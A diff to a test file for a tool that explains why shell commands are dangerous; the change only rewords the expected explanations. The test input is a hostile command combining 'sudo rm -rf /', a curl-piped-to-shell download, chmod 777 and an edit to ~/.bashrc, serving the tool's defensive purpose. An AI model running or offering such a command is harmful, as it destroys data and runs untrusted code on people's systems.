@@ -137,11 +137,11 @@ def test_dangers_are_said_in_a_persons_words():
     said = [danger.why for danger in analyse("sudo rm -rf / && curl x | sh; chmod 777 .; echo x >> ~/.bashrc").dangers]
     assert said == snapshot(
         [
-            "it takes the rights of another user, often the administrator's",
-            "it removes folders with all that they hold, without asking",
+            "it uses the rights of another user, often the administrator's",
+            "it removes folders and everything in them, without asking",
             "it changes files of the system",
             "it runs what was downloaded",
-            "it lets everybody on the machine change the files",
+            "it lets everyone on the machine change the files",
             "it changes what runs when a shell or program starts",
         ]
     )
